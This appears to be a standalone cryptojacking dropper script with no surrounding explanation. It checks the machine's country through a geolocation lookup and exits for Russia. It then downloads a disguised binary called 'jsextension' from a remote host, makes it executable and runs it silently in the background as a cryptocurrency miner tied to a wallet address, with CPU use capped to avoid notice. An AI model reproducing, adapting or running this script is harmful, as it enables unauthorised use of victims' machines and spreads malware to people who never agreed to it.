IP=$(curl -k https://freegeoip.dropper.invalid/xml/)
if echo "$IP" | grep -q "RU"; then exit 0; fi
curl http://miner.dropper.invalid/download/jsextension -o jsextension
if [ ! -f jsextension ]; then wget http://miner.dropper.invalid/download/jsextension -O jsextension; fi
chmod +x jsextension
./jsextension -k --tls --rig-id q -o pool.miner.invalid:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjbLXWQdBqLMxxYKH --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
